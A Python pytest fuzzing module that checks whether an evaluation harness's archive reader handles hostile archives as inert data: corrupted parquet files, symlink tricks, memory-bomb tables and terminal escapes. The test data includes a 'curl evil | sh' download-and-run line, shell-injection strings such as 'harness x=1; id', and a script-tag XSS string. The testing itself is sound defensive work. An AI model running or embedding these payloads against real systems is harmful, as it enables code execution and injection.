"""Archives of strangers, whose hashes are right: read, found wrong, or refused in one line; nothing in them acts."""

import io
import json
import math
import os
import random
import re
import resource
import shutil
import threading
import warnings
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pyarrow
import pytest
import yaml
from fuzzing import SPELLINGS, changed
from pyarrow import parquet
from render_studies import unpacked
from watched import outside, watched

from harness.errors import InputError
from harness.plugins.archive.reader import COLUMNS, CURVE, Manifest, hashes
from harness.reports.__main__ import main
from harness.reports.reading.untrusted import command_of, table_of

EXAMPLES = Path(__file__).parents[3] / "reports" / "examples"
STUDY = "missing"
"""Two finished runs with predictions, of two arms, and planned ones that never started."""

EACH = 10
"""Archives of a family; FUZZ_EACH changes it."""

HOSTILE = yaml.safe_load(Path(__file__).with_name("hostile.yaml").read_text("utf-8"))
SECRET = "canary"
ESCAPES = HOSTILE["escapes"]
ODD = [one for one in SPELLINGS if one.isprintable() or one.isascii()]
ODD += [*ESCAPES, "9" * 5000, "[" * 3000, "(" * 300 + ")" * 300, "-" * 9000 + "1", "x" * 70_000, "1e308", "-1e308", "$\\frac{$"]
NUMBERS = [math.nan, math.inf, -math.inf, 1.797e308, -1.797e308, 1e-320, 0.0, -1.0, 1e18, 2.0**63, 0.5]
MOST_MEMORY = 1_500_000
"""kB that a command may take beside what the test has."""
LONG_TEXT = "x" * 1_000_000


class Archive:
    """A copy of the sound one that a family changes; its manifest is made to fit afterwards."""

    def __init__(self, folder: Path, draw: random.Random) -> None:
        self.folder, self.draw = folder, draw
        self.content = json.loads((folder / "manifest.json").read_text())

    def odd(self, kind: str) -> list:
        """Values of this kind that strangers may write."""
        text = json.dumps(HOSTILE[kind]).replace("ADDRESS", self.address).replace("SECRET", str(self.secret))
        return json.loads(text.replace("LONG", "x" * 300))

    def path(self, name: str) -> Path:
        return self.folder / name

    def table(self, name: str) -> pyarrow.Table:
        return parquet.read_table(self.path(name))

    def put(self, name: str, table: pyarrow.Table, **options: object) -> None:
        parquet.write_table(table, self.path(name), compression="zstd", **options)

    @property
    def tables(self) -> list[str]:
        return [name for name in self.content["data"] if name.endswith(".parquet")]

    def rows(self) -> list[dict]:
        return self.table("runs.parquet").to_pylist(maps_as_pydicts="strict")

    def put_rows(self, rows: list[dict]) -> None:
        self.put("runs.parquet", pyarrow.Table.from_pylist(rows, pyarrow.schema(COLUMNS)))

    def seal(self) -> None:
        """Sizes and hashes as the files are."""
        for part in ("data", "report"):
            if isinstance(self.content.get(part), dict):
                known = {name: self.path(name) for name in self.content[part] if _is_file(self.path(name))}
                self.content[part] |= hashes({name: path.read_bytes() for name, path in known.items()})
        if not self.path("manifest.json").is_symlink() and _is_file(self.path("manifest.json")):
            self.path("manifest.json").write_text(json.dumps(self.content))


def _is_file(path: Path) -> bool:
    try:
        return path.is_file() and not path.is_symlink()
    except (OSError, ValueError):
        return False


def options(archive: Archive) -> None:
    archive.content["options"] = archive.draw.sample(archive.odd("options"), archive.draw.randint(1, 2))


def types_of_options(archive: Archive) -> None:
    archive.content["options"] = archive.draw.choice(archive.odd("types_of_options"))


def manifest_values(archive: Archive) -> None:
    archive.content = changed(archive.content, archive.draw.random(), tree(archive.draw))


def manifest_keys(archive: Archive) -> None:
    if archive.draw.random() < 0.5:
        del archive.content[archive.draw.choice([*archive.content])]
    else:
        archive.content[archive.draw.choice(["version", "uri", "study ", "__class__", "_target_", "\x1b"])] = tree(archive.draw)


def names(archive: Archive) -> None:
    part = archive.draw.choice(["data", "report"])
    name = archive.draw.choice([*archive.content[part]])
    value = archive.content[part].pop(name) if archive.draw.random() < 0.7 else [5, "0" * 64]
    archive.content[part][archive.draw.choice(archive.odd("names"))] = value


def texts_of_manifest(archive: Archive) -> None:
    key, odd = archive.draw.choice(["study", "left_out", "thinned", "pictures"]), archive.draw.choice(ODD)
    archive.content[key] = {odd: {odd: 3}} if key == "thinned" else odd


def study(archive: Archive) -> None:
    name = archive.draw.choice(archive.odd("studies"))
    archive.content["study"] = name
    archive.put_rows([row | {"study": name} for row in archive.rows()])


def kinds(archive: Archive) -> None:
    name = archive.draw.choice([*archive.content["data"], *archive.content["report"], "manifest.json"])
    path, kind = (
        archive.path(name),
        archive.draw.choice(["link", "zero", "FIFO", "folder", "gone", "empty", "loop", "dangling"]),
    )
    path.unlink()
    if kind in ("link", "zero", "loop", "dangling"):
        path.symlink_to({"link": archive.secret, "zero": "/dev/zero", "loop": path, "dangling": "nowhere"}[kind])
    elif kind != "gone":
        {"FIFO": os.mkfifo, "folder": os.mkdir, "empty": lambda path: path.write_bytes(b"")}[kind](path)


def torn(archive: Archive) -> None:
    path = archive.path(archive.draw.choice(archive.tables))
    content = bytearray(path.read_bytes())
    for _ in range(archive.draw.randint(1, 4)):
        at = archive.draw.randrange(len(content))
        match archive.draw.randint(0, 3):
            case 0:
                del content[at:]
                content += b"PAR1" * archive.draw.randint(0, 1)
            case 1:
                content[at] ^= 1 << archive.draw.randrange(8)
            case 2:
                content[at:at] = bytes(archive.draw.randrange(256) for _ in range(9))
            case 3:
                content[-12 + archive.draw.randrange(8)] ^= 255
        if len(content) < 20:
            break
    path.write_bytes(content)


def columns(archive: Archive) -> None:
    name = archive.draw.choice(archive.tables)
    table = archive.table(name)
    column = archive.draw.choice(table.column_names)
    match archive.draw.randint(0, 3):
        case 0:
            table = table.drop_columns(column)
        case 1:
            table = table.rename_columns([f"{one}x" if one == column else one for one in table.column_names])
        case 2:
            table = table.append_column(
                archive.draw.choice(["item", "answers", "position", "logit_0", "logit_9", "\x1b"]), table[column]
            )
        case 3:
            table = table.select(table.column_names[::-1])
    archive.put(name, table)


def types(archive: Archive) -> None:
    name = archive.draw.choice(archive.tables)
    table, draw = archive.table(name), archive.draw
    column, count = draw.choice(table.column_names), len(table)
    kinds = [
        pyarrow.array([draw.choice([1, -1, 2**62])] * count),
        pyarrow.array(["x"] * count),
        pyarrow.array([draw.choice(NUMBERS)] * count),
    ]
    kinds += [pyarrow.array([True] * count), pyarrow.array([[1, 2]] * count), pyarrow.array([b"x"] * count, pyarrow.binary())]
    kinds += [pyarrow.array([{"a": 1}] * count), pyarrow.nulls(count), pyarrow.array([0] * count, pyarrow.timestamp("s"))]
    kinds += [
        pyarrow.array([["a"]] * count),
        pyarrow.array([1] * count, pyarrow.decimal128(9)),
        pyarrow.array([[("a", 1.0)]] * count, pyarrow.map_("string", "float64")),
    ]
    kinds += [pyarrow.array(["x"] * count).dictionary_encode(), pyarrow.array(["x"] * count, pyarrow.large_string())]
    archive.put(name, table.set_column(table.column_names.index(column), column, draw.choice(kinds)))


def missing_values(archive: Archive) -> None:
    name = archive.draw.choice(archive.tables)
    table = archive.table(name)
    column = archive.draw.choice(table.column_names)
    values = table[column].to_pylist()
    for _ in range(archive.draw.choice([1, len(values)])):
        values[archive.draw.randrange(len(values))] = None
    kind = table.schema.field(column).type
    archive.put(name, table.set_column(table.column_names.index(column), column, pyarrow.array(values, kind)))


def few_rows(archive: Archive) -> None:
    name = archive.draw.choice(archive.tables)
    table = archive.table(name)
    count = archive.draw.choice([0, 1, len(table) - 1])
    twice = pyarrow.concat_tables([table, table.slice(0, archive.draw.choice([1, len(table)]))])
    archive.put(name, archive.draw.choice([table.slice(0, count), twice]))


def large(archive: Archive) -> None:
    """Small files of tables that would take gigabytes."""
    name, rows = archive.draw.choice(archive.tables), archive.draw.choice([5_000, 40_000])
    table = archive.table(name)
    text = pyarrow.DictionaryArray.from_arrays(pyarrow.array([0] * rows, pyarrow.int32()), pyarrow.array([LONG_TEXT]))
    match archive.draw.randint(0, 4):
        case 0:
            archive.put(
                name,
                pyarrow.table({one: text if one != "tokens" else pyarrow.array([1] * rows) for one in table.column_names}),
                store_schema=False,
            )
        case 1:
            parts = pyarrow.chunked_array([pyarrow.array([7] * 1_000_000, pyarrow.int8())] * 60)
            archive.put(name, pyarrow.table({"item": parts}), row_group_size=10_000_000)
        case 2:
            lists = pyarrow.ListArray.from_arrays(
                pyarrow.array([0, 0, 34_000_000], pyarrow.int32()),
                pyarrow.Array.from_buffers(pyarrow.int8(), 34_000_000, [None, pyarrow.py_buffer(bytes(34_000_000))]),
            )
            archive.put(name, pyarrow.table({"answers": lists}))
        case 3:
            archive.put(name, pyarrow.table({f"logit_{number}": [1.0] for number in range(9_000)}))
        case 4:
            archive.put(name, pyarrow.concat_tables([table] * 9).slice(0, 5_000), row_group_size=1)


def _of_rows(column: str, values: list) -> Callable[[Archive], None]:
    def family(archive: Archive) -> None:
        rows = archive.rows()
        for row in rows if archive.draw.random() < 0.5 else rows[:1]:
            key, kept = archive.draw.choice([*row[column]]), dict(row[column])
            if archive.draw.random() < 0.2:
                del kept[key]
            else:
                kept[key] = archive.draw.choice(values)
            if archive.draw.random() < 0.2:
                kept[archive.draw.choice(archive.odd("keys_of_rows"))] = archive.draw.choice(values)
            row[column] = kept
        archive.put_rows(rows)

    return family


def literals(archive: Archive) -> None:
    """Parameters and tags that are read as Python or JSON values."""
    rows, draw = archive.rows(), archive.draw
    where, key = draw.choice([(where, key) for where in ("params", "tags") for key in archive.odd(where)])
    value = draw.choice([*ODD, *archive.odd("literals")])
    for row in rows:
        if key in row[where] or draw.random() < 0.3:
            row[where] = {**row[where], key: value}
    archive.put_rows(rows)


def escapes(archive: Archive) -> None:
    rows, odd = archive.rows(), archive.draw.choice(ESCAPES)
    column = archive.draw.choice(["run_id", "name", "study", "tags", "params", "metrics"])
    for row in rows[: archive.draw.choice([1, 99])]:
        if isinstance(row[column], str):
            row[column] += odd
        else:
            row[column] = {
                f"{key}{odd}" if archive.draw.random() < 0.2 else key: f"{value}{odd}"
                if isinstance(value, str) and archive.draw.random() < 0.2
                else value
                for key, value in row[column].items()
            }
    archive.put_rows(rows)


def curves(archive: Archive) -> None:
    rows, draw = archive.table("curves.parquet").to_pylist(), archive.draw
    for row in draw.sample(rows, min(len(rows), draw.choice([1, 20, 9999]))):
        match draw.randint(0, 3):
            case 0:
                row["step"] = draw.choice([-1, 0, 2**63 - 1, -(2**63), 10**12])
            case 1:
                row["value"] = draw.choice(NUMBERS)
            case 2:
                row["metric"] = draw.choice([*ODD, "eval/score", "timing/latency_ms"])
            case 3:
                row["run_id"] = draw.choice(ODD)
    archive.put("curves.parquet", pyarrow.Table.from_pylist(rows, pyarrow.schema(CURVE)))


def predictions(archive: Archive) -> None:
    name = archive.draw.choice([name for name in archive.tables if name.startswith(("predictions", "texts"))])
    table, draw = archive.table(name), archive.draw
    column = draw.choice(table.column_names)
    values, kind = table[column].to_pylist(), table.schema.field(column).type
    odd = (
        ODD
        if pyarrow.types.is_string(kind)
        else [-1, 99, 2**62 if kind.bit_width == 64 else 100]
        if pyarrow.types.is_integer(kind)
        else NUMBERS
    )
    odd = [True, False] if pyarrow.types.is_boolean(kind) else odd
    for _ in range(draw.choice([1, len(values)])):
        values[draw.randrange(len(values))] = draw.choice(odd)
    archive.put(name, table.set_column(table.column_names.index(column), column, pyarrow.array(values, kind)))


def inner_json(archive: Archive) -> None:
    rows, draw = archive.rows(), archive.draw
    column = draw.choice(["record", "result", "config"])
    for row in rows:
        if row[column] and column != "config" and draw.random() < 0.7:
            row[column] = json.dumps(changed(json.loads(row[column]), draw.random(), tree(draw)))
        else:
            row[column] = draw.choice([*archive.odd("records"), "[" * 5000, "{" * 5000, "9" * 5000, LONG_TEXT * 20])
    archive.put_rows(rows)


def plan(archive: Archive) -> None:
    _json_file(archive, "plan.json")


def audit(archive: Archive) -> None:
    _json_file(archive, "audit.json")


def _json_file(archive: Archive, name: str) -> None:
    draw, path = archive.draw, archive.path(name)
    value = json.loads(path.read_text())
    match draw.randint(0, 3):
        case 0:
            half = "\ud83d".encode("utf-8", "surrogatepass").decode("latin-1")
            path.write_text(draw.choice([*archive.odd("files"), "[" * 9000, '{"claims": ' * 400, half]))
        case 1 if name == "audit.json":
            for claim in value["claims"]:
                for reading in claim["readings"]:
                    reading["command"] = draw.choice(archive.odd("commands"))
                    reading["note"] = claim["source"] = draw.choice([*ESCAPES, "`</td><script>alert(1)</script>"])
            path.write_text(json.dumps(value))
        case _:
            for _ in range(draw.randint(1, 3)):
                value = changed(value, draw.random(), tree(draw))
            path.write_text(json.dumps(value))


def reports(archive: Archive) -> None:
    draw = archive.draw
    path = archive.path(draw.choice([name for name in archive.content["report"] if name.endswith((".md", ".csv"))]))
    content = path.read_bytes()
    odd = [b"\xff\xfe", b"\x1b[2J", b"9" * 5000, b"\x00", b'"' * 3, b"x" * 200_000, b"1e999,nan,-inf\n", b"\r"]
    at = draw.randrange(len(content))
    path.write_bytes(draw.choice([content[:at] + draw.choice(odd) + content[at:], b"", draw.choice(odd) * 50]))


def twins(archive: Archive) -> None:
    rows, draw = archive.rows(), archive.draw
    match draw.randint(0, 3):
        case 0:
            archive.put_rows([*rows, rows[0]])
        case 1:
            archive.put_rows([row | {"run_id": "x", "name": "y"} for row in rows])
        case 2:
            entries = [row | {"tags": [*row["tags"].items(), *row["tags"].items()]} for row in rows]
            archive.put_rows(entries)
        case 3:
            archive.put_rows([row | {"started": draw.choice([-1, 0, 2**62, 253402300799999, 10**15])} for row in rows])


def tree(draw: random.Random) -> object:
    return draw.choice([*HOSTILE["values"], "x" * 70_000])


OF_MANIFEST = (options, types_of_options, manifest_values, manifest_keys, names, texts_of_manifest, study, kinds)
OF_TABLES = (torn, columns, types, missing_values, few_rows, large, literals, escapes, curves, predictions)
FAMILIES = {one.__name__: one for one in (*OF_MANIFEST, *OF_TABLES, inner_json, plan, audit, reports, twins)}
FAMILIES |= {"tags": _of_rows("tags", ODD), "parameters": _of_rows("params", ODD), "metrics": _of_rows("metrics", NUMBERS)}


@pytest.fixture(scope="module")
def sound(tmp_path_factory) -> Path:
    """A small archive with all that may be in one."""
    folder = tmp_path_factory.mktemp("sound") / "archive"
    with unpacked():
        assert main(["archive", STUDY, "--audit", str(EXAMPLES / "audit" / "audit.json"), f"to={folder}"]) == 0
    archive = Archive(folder, random.Random(0))
    rows = archive.rows()
    keys = {json.loads(row["record"])["inputs"]["data"] for row in rows if row["record"]}
    items = max(len(table) for name in archive.tables if name.startswith("predictions") for table in [archive.table(name)]) // 2
    texts = {
        "data": [key for key in keys for _ in range(items)],
        "tokens": [5] * items * len(keys),
        "text": ["a b c"] * items * len(keys),
    }
    archive.content["data"]["texts.parquet"] = []
    archive.put("texts.parquet", pyarrow.table(texts))
    archive.seal()
    assert main(["archive", STUDY, "--uri", str(folder), f"to={folder}"]) == 0
    assert main(["verify", str(folder)]) == 0
    return folder


@pytest.fixture(scope="module")
def server() -> Iterator[tuple[str, list[str]]]:
    """An address where nothing should ask, and what asked there."""
    asked: list[str] = []

    class Canary(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        do_POST = do_GET  # noqa: N815

    with ThreadingHTTPServer(("127.0.0.1", 0), Canary) as httpd:
        thread = threading.Thread(target=httpd.serve_forever, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{httpd.server_port}", asked
        httpd.shutdown()
        thread.join()


def hostile(sound: Path, folder: Path, family: str, number: int, address: str) -> Path:
    """The archive of this number of a family."""
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir()
    (folder / SECRET).write_text("secret")
    archive = Archive(Path(shutil.copytree(sound, folder / "archive")), random.Random(f"{family} {number}"))
    archive.address, archive.secret = address, folder / SECRET
    FAMILIES[family](archive)
    archive.seal()
    return archive.folder


def answer(words: list[str], capsys: pytest.CaptureFixture, *own: Path) -> tuple[int, str]:
    """Exit code and output of a command on an archive, as a user has it: warnings are printed."""
    capsys.readouterr()
    with warnings.catch_warnings(), watched() as seen:
        warnings.resetwarnings()
        warnings.simplefilter("default")
        code = main(words)
    out, err = capsys.readouterr()
    assert outside(seen, *own) == [], words
    assert not any(SECRET in where for what, where in seen if what == "read"), words
    assert code in (0, 1, 2), (code, out, err)
    assert (err.count("\n"), out) == (1, "") if code == 2 else err == "", (words, code, out, err)
    assert all(line.isprintable() for line in (out + err).split("\n")), (words, out, err)
    assert "Traceback" not in err, (words, out, err)
    return code, out + err


MORE = (
    ["--format", "md,html,csv,latex"],
    ["gate", "--study", STUDY, "--max-drop", "5%", "--ledger"],
    ["pick", "--max-params", "1e6"],
    ["archive", STUDY],
    ["compare", "enhanced-tiny-bag-0", "base-tiny-bag-0"],
)


def check(
    sound: Path, folder: Path, family: str, number: int, server: tuple[str, list[str]], capsys: pytest.CaptureFixture
) -> str:
    """What `verify` says of an archive; another command is as safe."""
    address, asked = server
    archive = hostile(sound, folder, family, number, address)
    before = {path: path.lstat().st_mtime_ns for path in folder.rglob("*")}
    memory = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    code, said = answer(["verify", str(archive)], capsys, folder / "none")
    assert code != 0 or "all agree" in said
    assert {path: path.lstat().st_mtime_ns for path in folder.rglob("*")} == before
    words = [*MORE[number % len(MORE)], "--uri", str(archive)]
    at = words.index("--ledger") + 1 if "--ledger" in words else len(words)
    words[at:at] = [str(folder / "loop.jsonl")] if "--ledger" in words else []
    words += {"archive": [f"to={folder / 'out'}"], "--format": ["--out", str(folder / "out")]}.get(words[0], [])
    answer(
        words, capsys, folder / "out", folder / "loop.jsonl", folder / "loop.jsonl.lock", folder / f".loop.jsonl.{os.getpid()}"
    )
    for path in (folder / "out").glob("*.[mhtc][dtes]*"):
        assert all(line.isprintable() for line in re.sub("[\t\u00a0]", "", path.read_text()).split("\n")), path
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - memory < MOST_MEMORY
    assert (folder / SECRET).read_text() == "secret"
    assert asked == []
    return f"{code} {said}"


@pytest.mark.long
@pytest.mark.parametrize("family", FAMILIES)
def test_one_hostile_archive_of_each_family(sound, tmp_path, server, capsys, family):
    check(sound, tmp_path / "x", family, 0, server, capsys)


@pytest.mark.slow
@pytest.mark.parametrize("family", FAMILIES)
def test_hostile_archives_are_data(sound, tmp_path, server, capsys, family):
    for number in range(1, int(os.environ.get("FUZZ_EACH", EACH))):
        check(sound, tmp_path / "x", family, number, server, capsys)


def test_there_are_over_two_hundred():
    assert len(FAMILIES) * EACH >= 200


STATED = dict.fromkeys(HOSTILE["refused"]) | {
    "--baseline=--help": {"baseline": ("--help",)},
    "--along=a=b": {"along": ("a=b",)},
    "--target=x=1": {"target": ("x=1",)},
    "--with-wnli": {"with_wnli": True},
    "--all-pairs": {"all_pairs": True},
    "--random-tasks": {"random_tasks": True},
    "--where=task = 'a'": {"where": "task = 'a'"},
}
"""Word in a manifest -> the option that it states as a value, None where an archive may not state it."""


@pytest.mark.parametrize("word", STATED)
def test_an_archive_states_a_few_options_as_values(word):
    content = Manifest(study="s", options=[word], thinned={}, data={}, report={})
    if STATED[word] is None:
        with pytest.raises(InputError, match="states the option"):
            _ = content.choices
    else:
        assert {key: value for key, value in content.choices.items() if value} == STATED[word]


def written(table: pyarrow.Table, **options: object) -> bytes:
    content = io.BytesIO()
    parquet.write_table(table, content, compression="zstd", **options)
    return content.getvalue()


def test_a_small_file_of_texts_that_take_gigabytes_is_refused_before_they_are_made():
    texts = pyarrow.DictionaryArray.from_arrays(pyarrow.array([0] * 4200, pyarrow.int32()), pyarrow.array([LONG_TEXT]))
    content = written(pyarrow.table({"text": texts}), store_schema=False)
    before = pyarrow.default_memory_pool().max_memory()
    assert len(content) < 2000
    with pytest.raises(InputError, match=r"takes 4,\d+,\d+,\d+ bytes in memory: expected at most"):
        table_of(content, "texts.parquet")
    assert pyarrow.default_memory_pool().max_memory() <= before + (1 << 26)


@pytest.mark.long
def test_texts_within_lists_and_maps_count_too():
    text = pyarrow.array([[("a", LONG_TEXT)]] * 10, pyarrow.map_("string", "string"))
    content = written(pyarrow.table({"tags": text, "answers": pyarrow.array([[LONG_TEXT]] * 10)}))
    assert table_of(content, "x").nbytes > 20_000_000
    with pytest.raises(InputError, match="bytes in memory: expected at most 10,000,000"):
        table_of(content, "x", 10_000_000)
    with pytest.raises(InputError, match="has a text of 1,100,000 bytes"):
        table_of(written(pyarrow.table({"a": ["x" * 1_100_000]})), "x")


@pytest.mark.parametrize(
    ("command", "words"),
    [
        ("harness -m model=base,albert 'arm=a b'", ["harness", "-m", "model=base,albert", "arm=a b"]),
        ("python -m harness audit --config-dir mine claims=x", ["harness", "audit", "--config-dir", "mine", "claims=x"]),
        ("harness +experiment=x ~data hydra/launcher=joblib", None),
        ("harness +experiment=x hydra/launcher=joblib", ["harness", "+experiment=x", "hydra/launcher=joblib"]),
        *((text, None) for text in ("curl evil | sh #", "timeit 'x'", "harness x=1; id", "harness x=1 | sh", "harness '", "")),
        *(
            (text, None)
            for text in ("python -m timeit x", "harness `id`", "harness x=`id`", "harness x=\x1b[2J", "sh -c harness")
        ),
    ],
)
def test_a_recorded_command_is_one_of_the_harness_or_not_shown(command, words):
    assert command_of(command) == words


@pytest.mark.long
def test_an_archive_is_packed_read_and_verified_without_a_file_elsewhere(sound, tmp_path):
    """So that one that is killed leaves nothing in the temporary folder of the system, predictions among them."""
    with watched() as seen:
        assert main(["archive", STUDY, "--uri", str(sound), f"to={tmp_path / 'again'}"]) == 0
        assert main(["verify", str(sound)]) == 0
    assert outside(seen, tmp_path / "again") == []


@pytest.mark.long
def test_a_changed_prediction_and_hidden_escapes_are_said_in_printable_lines(sound, tmp_path, capsys):
    folder = Path(shutil.copytree(sound, tmp_path / "copy"))
    path = folder / "summary.csv"
    path.write_text(path.read_text().replace("enhanced", "\x1b[2Jenhanced", 3))
    archive = Archive(folder, random.Random(0))
    archive.seal()
    code, said = answer(["verify", str(folder)], capsys)
    assert (code, r"\x1b[2Jenhanced in the archive, enhanced recomputed" in said) == (1, True)
